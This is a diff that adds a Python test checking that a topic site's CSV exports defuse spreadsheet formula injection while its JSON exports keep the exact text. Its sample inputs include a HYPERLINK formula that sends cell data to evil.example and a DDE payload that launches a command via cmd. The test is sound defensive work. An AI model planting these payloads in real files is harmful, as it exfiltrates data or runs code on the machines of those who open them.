@@ -17,7 +17,7 @@ from bs4 import BeautifulSoup
 
 from topics import render
 from topics.editions import event_shares, natural_key
-from topics.export import TOP_WORDS
+from topics.export import TOP_WORDS, ExportedTopic, write_exports
 from topics.layout import talk_positions
 from topics.render import build_site, site_view
 from topics.search_index import (
@@ -30,6 +30,7 @@ from topics.search_index import (
 )
 from topics.similar import related_topics, similar_talks
 
+from .reliability_table import reliability
 from .tiny_site import EVENTS, N_TOPICS, fitted, fitted_two_events
 
 
@@ -213,6 +214,58 @@ def test_export_files_hold_topics_words_and_weights(two_event_site):
     index = soup(two_event_site / "index.html")
     links = {a["href"] for a in index.select("#data a")}
     assert links == {f"data/{name}" for name, _ in render.DOWNLOADS}
+
+
+#: Texts a spreadsheet would run as formulas, and texts that only look alike.
+FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1,"Click")', "+1+cmd|' /C calc'!A0",
+            "-2+3", "@SUM(1,1)", "\t=1+1", "\r=1+1", "=1,2;3"]  # fmt: skip
+HARMLESS = ["Tables with = signs", " =1+1", "'quoted", "1-2", "a@b.example"]
+
+
+@reliability(
+    "Talks titled =HYPERLINK(...), +cmd|..., -2+3, @SUM(...), or starting with a tab or a"
+    " carriage return, from an event and with topic labels and terms of the same kind,"
+    " exported as the site's data/*.csv and data/*.json",
+    "Every such CSV cell starts with a ' (OWASP's advice), so a spreadsheet shows it as text;"
+    " other cells and the JSON files hold the exact text",
+)
+def test_export_neutralises_formulas_in_csv_and_keeps_json_exact(tmp_path):
+    texts = FORMULAS + HARMLESS
+    topics = [
+        ExportedTopic(1, FORMULAS[0], 3, None, [(FORMULAS[3], 0.5), ("-", 0.25), ("x", 0.125)]),
+        ExportedTopic(2, "-negative", 2, -0.5, [(t, 0.1) for t in texts]),
+    ]
+    talks = [(f"t{i}", text, FORMULAS[i % len(FORMULAS)]) for i, text in enumerate(texts)]
+    W = np.full((len(talks), 2), -0.0)  # no formula, though a number with a minus sign
+    paths = write_exports(topics, talks, W, tmp_path)
+
+    def table(name: str) -> list[list[str]]:
+        return list(csv.reader(io.StringIO(paths[name].read_bytes().decode(), newline="")))
+
+    def safe(text: str) -> str:
+        return f"'{text}" if text in FORMULAS or text.startswith("-") else text
+
+    rows = table("talk-topics.csv")[1:]
+    assert [r[1] for r in rows] == [safe(text) for text in texts]
+    assert [r[2] for r in rows] == [safe(event) for _, _, event in talks]
+    assert {r[3] for r in rows} == {"-0.0"}
+    assert [r[1] for r in table("topics.csv")[1:]] == [safe(FORMULAS[0]), "'-negative"]
+    assert table("topics.csv")[1][4] == f"'{FORMULAS[3]}; -; x"
+    assert table("topics.csv")[2][3] == "-0.5"
+    assert [r[2] for r in table("topic-words.csv")[1:]] == [
+        safe(FORMULAS[3]), "'-", "x", *map(safe, texts)
+    ]  # fmt: skip
+    every_cell = [c for name in paths if name.endswith(".csv") for r in table(name) for c in r]
+    text_cells = [c for c in every_cell if not c.lstrip("-").replace(".", "").isdigit()]
+    assert not [c for c in text_cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
+    # The JSON files hold the exact text.
+    listing = json.loads(paths["talk-topics.json"].read_text("utf-8"))
+    assert [(t["title"], t["event"]) for t in listing["talks"]] == [t[1:] for t in talks]
+    exported = json.loads(paths["topics.json"].read_text("utf-8"))
+    assert [t["label"] for t in exported] == [FORMULAS[0], "-negative"]
+    assert exported[1]["top_words"] == texts[:10]
+    words = json.loads(paths["topic-words.json"].read_text("utf-8"))
+    assert [w for w, _ in words[1]["terms"]] == texts
 
 
 # Editions ----------------------------------------------------------------------------------
